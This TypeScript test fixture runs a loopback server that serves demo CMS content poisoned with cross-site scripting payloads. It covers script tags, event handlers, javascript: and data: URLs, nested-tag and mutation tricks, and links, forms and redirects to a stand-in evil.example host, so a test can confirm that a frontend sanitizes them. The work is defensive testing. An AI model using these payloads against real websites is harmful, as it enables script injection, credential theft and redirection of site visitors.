// A content API that a compromised editor account or plugin could have written:
// the embedded demo content, on a real loopback HTTP server, with script
// payloads in every field a reader's page shows: post HTML, static page HTML,
// titles, alt texts, excerpts, category names and descriptions, outbound links,
// inline media, suggestions and popular searches. Every payload that runs sets
// `window.__pwned` (or opens a dialog, or asks evil.example for something);
// the editorial content around them stays, so a test can check it still shows.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import express, { type Response } from 'express';
import { createDemoContentApp } from '../../adapters/demo-content/createDemoContentApp.ts';

export const EVIL_HOST = 'evil.example';

/** Markup a hostile post or page carries in its HTML. */
const HTML_PAYLOADS = [
  '<script>window.__pwned="script"</script>',
  '<img src="x" onerror="window.__pwned=\'img onerror\'">',
  '<a href="javascript:window.__pwned=\'javascript link\'">a link</a>',
  '<a href="JaVaScRiPt&#58;window.__pwned=\'entity link\'">another link</a>',
  '<a href=" &#14; javascript:window.__pwned=\'spaced link\'">a spaced link</a>',
  '<a href="data:text/html,<script>parent.__pwned=\'data link\'</script>">a data link</a>',
  '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>',
  `<iframe src="https://${EVIL_HOST}/frame"></iframe>`,
  '<svg><animate onbegin="window.__pwned=\'svg animate\'" attributeName="x" dur="1s"/></svg>',
  '<details open ontoggle="window.__pwned=\'details ontoggle\'"><summary>more</summary></details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mathml\'">',
  '<scr<script>ipt>window.__pwned="reopened"</scr</script>ipt>',
  '</p><script>window.__pwned="closing p"</script><p>',
  '<object data="data:text/html,<script>parent.__pwned=\'object\'</script>"></object>',
  '<embed src="javascript:window.__pwned=\'embed\'">',
  `<form action="https://${EVIL_HOST}/steal"><input name="q"><button>go</button></form>`,
  `<base href="https://${EVIL_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL_HOST}/">`,
  `<link rel="stylesheet" href="https://${EVIL_HOST}/x.css">`,
  '<style>body{background:url(javascript:window.__pwned=1)}</style>',
  '<div style="background-image:url(javascript:window.__pwned=\'style url\')">styled</div>',
  '<img src="x" srcset="javascript:window.__pwned=1 1x">',
  '<video><source onerror="window.__pwned=\'source onerror\'"></video>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>"></p></noscript>',
  '<template><script>window.__pwned="template"</script></template>',
  '<p onclick="window.__pwned=\'onclick\'" onmouseover="window.__pwned=\'onmouseover\'">hover</p>',
].join('');

/** Text with markup in it: a title, an alt text, a category name; it must show as text. */
const TEXT_PAYLOAD = '</script><script>window.__pwned="text"</script><img src=x onerror="window.__pwned=\'text img\'">"\'><svg onload=window.__pwned=1>';

const JS_URL = "javascript:window.__pwned='url'";
const DATA_URL = 'data:text/html,<script>parent.__pwned="data url"</script>';

type Json = unknown;

/** The wire answer with payloads: HTML fields get markup appended, text fields markup mixed in, URLs turned into scripts. */
const poison = (value: Json, key = ''): Json => {
  if (Array.isArray(value)) return value.map((item) => poison(item, key));
  if (value !== null && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value as Record<string, Json>).map(([k, v]) => [k, poison(v, k)]));
  }
  if (typeof value !== 'string') return value;
  switch (key) {
    case 'content':
    case 'excerpt':
      return `${value}${HTML_PAYLOADS}`;
    case 'title':
    case 'title_h1':
    case 'subtitle':
    case 'alt_text':
    case 'caption':
    case 'description':
    case 'term':
    case 'source_title':
    case 'license_label':
      return `${value} ${TEXT_PAYLOAD}`;
    case 'name':
      // A category name; a post's `name` is its slug and must stay one.
      return /^[a-z0-9-]+$/.test(value) ? value : `${value} ${TEXT_PAYLOAD}`;
    case 'url':
    case 'page_url':
      return JS_URL;
    case 'asset_url':
    case 'poster_url':
      return DATA_URL;
    case 'image':
      return `https://${EVIL_HOST}/cover.jpg`;
    default:
      return value;
  }
};

export interface HostileContentApi {
  /** The content API base, ending in /wp-json/wp. */
  readonly url: string;
  close(): Promise<void>;
}

export const startHostileContentApi = async (port = 0): Promise<HostileContentApi> => {
  const app = express();
  app.use((_req, res: Response, next) => {
    const json = res.json.bind(res);
    res.json = (body: Json) => json(poison(body));
    next();
  });
  app.use(createDemoContentApp({ mediaBase: '' }));
  const server: Server = createServer(app);
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', () => resolve()));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/wp-json/wp`,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
};
